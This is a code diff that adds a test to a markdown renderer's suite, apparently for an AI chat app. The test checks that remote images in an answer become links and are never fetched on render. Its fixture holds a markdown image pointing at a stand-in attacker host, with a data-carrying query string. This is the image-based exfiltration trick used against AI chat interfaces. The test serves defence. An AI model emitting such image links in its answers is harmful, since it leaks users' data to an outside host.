@@ -42,3 +42,16 @@ test('GFM tables, highlighted code with a copy button, and KaTeX math', () => {
 test('an unknown language stays plain text', () => {
   expect(render('```nosuchlang\n<b>x</b>\n```')).toContain('&lt;b&gt;x&lt;/b&gt;');
 });
+
+test("a remote image in an answer is a link, never fetched on render; Qiao's own images show", () => {
+  const html = render(
+    [
+      '![chart](https://evil.example/collect?d=13812345678)',
+      '![](//evil.example/x.png)',
+      '![avatar](/api/agents/a/avatar)',
+    ].join('\n\n'),
+  );
+  expect(html).not.toMatch(/<img[^>]*evil\.example/);
+  expect(html).toContain('href="https://evil.example/collect?d=13812345678"');
+  expect(html).toContain('<img src="/api/agents/a/avatar" alt="avatar"/>');
+});
